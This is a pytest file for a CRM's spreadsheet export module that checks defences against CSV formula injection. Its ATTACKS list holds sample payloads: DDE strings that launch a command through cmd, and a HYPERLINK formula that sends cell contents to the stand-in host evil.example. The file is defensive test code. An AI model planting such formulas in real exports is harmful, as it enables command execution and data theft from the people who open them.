"""Export cells a spreadsheet shows as text and never runs (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from fxcrm.core import spreadsheets

ATTACKS = [
    "=cmd|'/C calc'!A0@x.example",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "-",
    "=",
]
UNCHANGED: list[Any] = ["-12.50", "+3", "-0.5", "-1e5", "12.50", "Lena Novak", "", "a=b", " =1+2", 42, -7, -1.5, None]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_leading_text_gets_a_leading_quote(value: str) -> None:
    assert spreadsheets.cell(value) == "'" + value


@pytest.mark.parametrize("value", UNCHANGED)
def test_numbers_and_plain_texts_are_unchanged(value: Any) -> None:
    assert spreadsheets.cell(value) == value


def test_a_csv_quotes_every_text_and_leaves_numbers_bare() -> None:
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out)
    writer.writerow(['=1+2";=1+2', "a;=1+2", -7, Decimal("-12.50"), "-12.50"])
    # OWASP's example: =1+2";=1+2 becomes "'=1+2"";=1+2"
    assert out.getvalue() == '"\'=1+2"";=1+2","a;=1+2",-7,-12.50,"-12.50"\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2\";=1+2", "a;=1+2", "-7", "-12.50", "-12.50"]


def test_every_csv_and_xlsx_writer_goes_through_this_module() -> None:
    """A new export cannot bypass the neutralising: csv.writer only in fxcrm.core.spreadsheets,
    and every XlsxWriter workbook opened with its options."""
    import ast

    from localcloud.template import ROOT

    found = []
    for path in [
        *(ROOT / "layers").rglob("*.py"),
        *(ROOT / "functions").rglob("*.py"),
        *(ROOT / "localcloud").rglob("*.py"),
    ]:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            where = path.relative_to(ROOT).as_posix()
            if name in ("csv.writer", "csv.DictWriter", "writer", "DictWriter"):
                found.append((where, name))
            if name.endswith("Workbook"):
                options = [ast.unparse(a) for a in node.args[1:]]
                found.append((where, f"{name}({', '.join(options)})"))
    assert sorted(found) == [
        ("layers/shared/fxcrm/core/spreadsheets.py", "csv.writer"),
        (
            "layers/shared/fxcrm/reports/exports.py",
            "xlsxwriter.Workbook({'constant_memory': True, **spreadsheets.XLSX_OPTIONS})",
        ),
    ]
